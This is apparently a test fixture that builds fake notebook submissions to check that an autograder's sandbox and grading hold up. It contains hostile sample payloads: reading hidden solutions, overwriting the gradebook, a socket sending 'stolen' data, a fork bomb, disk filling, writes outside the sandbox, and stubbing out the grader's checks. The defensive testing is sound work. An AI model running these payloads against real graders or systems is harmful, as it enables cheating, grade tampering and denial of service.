"""Made-up submissions to one exercise, from the right one to those that try to break out.

Each is made from the hand-out itself. What a hostile answer reaches for is named by absolute paths
and by a listener that is alive, so that only the sandbox can be what stops it.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat

EXERCISE = "04-the-squeeze"
#: The first task; hostile code stands in its answer, before a right one.
FIRST = "task-4-1-answer"


@dataclass(frozen=True)
class Surroundings:
    """What a hostile answer may know: where things are, and who listens."""

    course: Path
    sources: Path
    port: int
    marker: Path


@dataclass(frozen=True)
class Made:
    """A submission and what must become of it: points of nine, and words of the reason."""

    name: str
    content: Callable[[Any, Any, Surroundings], bytes]
    points: float | None
    reason: str


def solved(handed_out: Any, source: Any) -> Any:
    """Return the hand-out with every solution in its place."""
    cells = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in source.cells}
    made = copy.deepcopy(handed_out)
    for cell in made.cells:
        about = cell.metadata.get("nbgrader", {})
        if about.get("solution"):
            cell.source = re.sub(r"### (BEGIN|END) SOLUTION\n?", "", cells[about["grade_id"]])
    return made


def cell_of(notebook: Any, name: str) -> Any:
    """Return the cell of a name."""
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def written(notebook: Any) -> bytes:
    """Return a notebook as a file."""
    return nbformat.writes(notebook).encode()


def with_code(code: str, name: str = FIRST, *, after: bool = False) -> Callable[..., bytes]:
    """Return a maker of a right submission with code before, or after, one of its answers."""

    def make(handed_out: Any, source: Any, around: Surroundings) -> bytes:
        made = solved(handed_out, source)
        cell = cell_of(made, name)
        filled = code.format(
            course=around.course, sources=around.sources, port=around.port, marker=around.marker
        )
        cell.source = f"{cell.source}\n{filled}" if after else f"{filled}\n{cell.source}"
        return written(made)

    return make


def instead(code: str, name: str = FIRST) -> Callable[..., bytes]:
    """Return a maker of a right submission with code in place of one answer."""

    def make(handed_out: Any, source: Any, around: Surroundings) -> bytes:
        made = solved(handed_out, source)
        cell_of(made, name).source = code
        return written(made)

    return make


def without(*names: str) -> Callable[..., bytes]:
    """Return a maker of a right submission without some of its cells."""

    def make(handed_out: Any, source: Any, around: Surroundings) -> bytes:
        made = solved(handed_out, source)
        gone = [cell_of(made, name) for name in names]
        made.cells = [cell for cell in made.cells if cell not in gone]
        return written(made)

    return make


def of_another_exercise(handed_out: Any, source: Any, around: Surroundings) -> bytes:
    """Return a notebook whose cells belong to another exercise."""
    made = copy.deepcopy(handed_out)
    for cell in made.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.grade_id = cell.metadata.nbgrader.grade_id.replace("-4-", "-9-")
    return written(made)


def cut_off(handed_out: Any, source: Any, around: Surroundings) -> bytes:
    """Return a file that ends in the middle."""
    return written(handed_out)[:900]


READ_SOLUTIONS = """
import pathlib
for path in ("{sources}", "{course}", "../../../source", "/proc/1/root{sources}"):
    for found in pathlib.Path(path).rglob("*"):
        if "SOLUTION" in found.read_text(errors="ignore"):
            pathlib.Path("{marker}").write_text("read")
            cheapest = None; raise SystemExit("READ IT")
"""
WRITE_GRADEBOOK = """
import pathlib, sqlite3
for path in ["{course}/assignments/04-the-squeeze/gradebook.db", "{course}/grades.csv",
             *map(str, pathlib.Path("/").glob("tmp/*/gradebook.db"))]:
    try:
        pathlib.Path(path).write_bytes(b"mine")
        pathlib.Path("{marker}").write_text("wrote")
    except OSError:
        pass
"""
OPEN_SOCKET = """
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as line:
        line.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
except OSError:
    pass
"""
FORK = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
FILL_DISK = """
import pathlib
for place in ("/tmp", "/dev/shm", "."):
    try:
        with open(pathlib.Path(place) / "big", "wb") as file:
            for _ in range(4000):
                file.write(b"0" * 1_000_000)
    except OSError:
        pass
"""
LEAVE_THE_HOUSE = """
import pathlib, os
for path in ("{marker}", os.path.expanduser("~/stolen"), "/etc/stolen", "{sources}/stolen"):
    try:
        pathlib.Path(path).write_text("here")
    except OSError:
        pass
"""
ANSWER = "cheapest = rates['kzt_per_rub_cross'].min()"

MADE = [
    Made("right", lambda h, s, _: written(solved(h, s)), 9, "all right"),
    Made("partly-right", instead("cheapest = 3.5"), 8, "not right: 4.1"),
    Made("wrong", instead("cheapest = misses = bounds = june = 0\ncheck = print"), 8, "not right"),
    Made("unanswered", lambda h, s, _: written(h), 0, "not right: 4.1, 4.2, 4.3, 4.4"),
    Made("empty-file", lambda *_: b"", None, "the file is empty"),
    Made("broken-json", cut_off, None, "broken JSON"),
    Made("not-a-notebook", lambda *_: json.dumps({"cells": 5}).encode(), None, "no"),
    Made("another-exercise", of_another_exercise, None, "not of this exercise"),
    Made("crash", with_code("1 / 0"), 8, "task 4.1: crashed with ZeroDivisionError"),
    Made("syntax-error", instead("cheapest = = 1"), 8, "task 4.1: syntax error"),
    Made("endless-loop", with_code("while True: pass"), 8, "task 4.1: time limit"),
    Made("deleted-answer", without("task-4-2-answer"), 6, "task 4.2: a cell was deleted"),
    Made("deleted-test", without("task-4-3-test"), None, "task 4.3: a cell was deleted"),
    Made(
        "edited-test",
        lambda h, s, a: edited(instead("cheapest = 3.5")(h, s, a), "task-4-1-test"),
        8, "task 4.1: the test was edited and restored",
    ),
    Made(
        "replaced-check",
        with_code(
            "import casebook.practice, casebook.practice.checking as c\n"
            "c.assert_right = lambda *a: None\ncheck = lambda *a: 'right'\ncheapest = 3.5",
            after=True,
        ),
        8, "not right: 4.1",
    ),
    Made("twenty-megabytes", with_code("print('x' * 20_000_000)"), 9, "all right"),
    Made("killed-kernel", with_code("import os; os.kill(os.getpid(), 9)"), 8, "kernel died"),
    Made("quits", with_code("import os; os._exit(0)"), 8, "kernel died"),
    Made("reads-solutions", with_code(READ_SOLUTIONS), 9, "all right"),
    Made("writes-gradebook", with_code(WRITE_GRADEBOOK), 9, "all right"),
    Made("opens-socket", with_code(OPEN_SOCKET), 9, "all right"),
    Made("writes-elsewhere", with_code(LEAVE_THE_HOUSE), 9, "all right"),
    Made("forks", with_code(FORK), 8, "task 4.1: the kernel died"),
    Made("eats-memory", with_code("hoard = [b'0' * 10**8 for _ in range(90)]"), 8, "task 4.1"),
    Made("fills-disk", with_code(FILL_DISK), 9, "all right"),
]  # fmt: skip


def edited(content: bytes, name: str) -> bytes:
    """Return a notebook whose test says what its author likes."""
    made = nbformat.reads(content.decode(), as_version=4)
    cell_of(made, name).source = "assert True"
    return written(made)
